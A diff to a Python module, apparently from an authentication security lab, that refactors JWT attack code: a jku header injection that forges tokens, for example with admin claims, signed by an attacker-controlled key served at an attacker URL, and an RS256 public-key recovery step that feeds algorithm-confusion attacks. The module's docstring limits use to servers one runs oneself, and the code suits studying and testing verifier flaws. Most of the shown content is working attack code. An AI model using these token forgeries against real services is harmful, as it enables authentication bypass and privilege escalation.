@@ -1,7 +1,7 @@
 """Attacks on where a JWT verifier gets its key. Use them only on servers you run yourself.
 
-    jwks = key_set(attacker_key)                        # serve this JSON at a URL you control
-    token = jku_token(admin, url, attacker_key)         # jku header injection
+    attacker = SigningKey()                             # serve attacker.jwks() at a URL you control
+    token = jku_token(admin, url, attacker)             # jku header injection
     public_key = recover_rsa_public_key(token1, token2) # an unpublished RS256 key, from two tokens
 
 ``recover_rsa_public_key`` turns algorithm confusion (``alg_confusion_token``) into an attack
@@ -14,15 +14,13 @@ on servers that never publish their key: an RS256 signature ``s`` of a message `
 from __future__ import annotations
 
 import hashlib
-import json
 
 import gmpy2
-import jwt
-from cryptography.hazmat.primitives.asymmetric import ec, rsa
+from cryptography.hazmat.primitives.asymmetric import rsa
 
 from authlab.attacks.jwt_attacks import split_token
+from authlab.signing_keys import SigningKey
 
-ATTACKER_KID = "attacker"
 # RFC 8017 §9.2, note 1: the DER DigestInfo prefix that EMSA-PKCS1-v1_5 puts before the hash
 _DIGEST_INFO = {
     "RS256": (hashlib.sha256, bytes.fromhex("3031300d060960864801650304020105000420")),
@@ -31,25 +29,14 @@ _DIGEST_INFO = {
 }
 
 
-def new_attacker_key() -> ec.EllipticCurvePrivateKey:
-    """A fresh P-256 key pair for signing ES256 tokens the attacker makes."""
-    return ec.generate_private_key(ec.SECP256R1())
+def jku_token(claims: dict, jku: str, key: SigningKey) -> str:
+    """``claims`` signed with the attacker's ``key``, whose ``jku`` header points at the attacker's key set.
 
-
-def key_set(private_key: ec.EllipticCurvePrivateKey, kid: str = ATTACKER_KID) -> dict:
-    """The JWK Set (RFC 7517) publishing the public half of ``private_key``: what the attacker serves."""
-    public = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(private_key.public_key()))
-    return {"keys": [{**public, "kid": kid, "use": "sig", "alg": "ES256"}]}
-
-
-def jku_token(claims: dict, jku: str, private_key: ec.EllipticCurvePrivateKey, kid: str = ATTACKER_KID) -> str:
-    """ES256 signed with the attacker's key, whose ``jku`` header points at the attacker's key set. CWE-347.
-
-    A verifier that fetches the key set the token names verifies the token with the key the
-    attacker chose, however strictly it pins the algorithm. The fetch itself is a
-    server-side request the attacker steers (CWE-918, SSRF).
+    Serve ``key.jwks()`` at ``jku``. A verifier that fetches the key set the token names
+    verifies the token with the key the attacker chose, however strictly it pins the
+    algorithm (CWE-347). The fetch itself is a server-side request the attacker steers (CWE-918).
     """
-    return jwt.encode(claims, private_key, algorithm="ES256", headers={"jku": jku, "kid": kid})
+    return key.sign(claims, {"jku": jku})
 
 
 def _encoded_message(alg: str, signing_input: bytes, size: int) -> int:
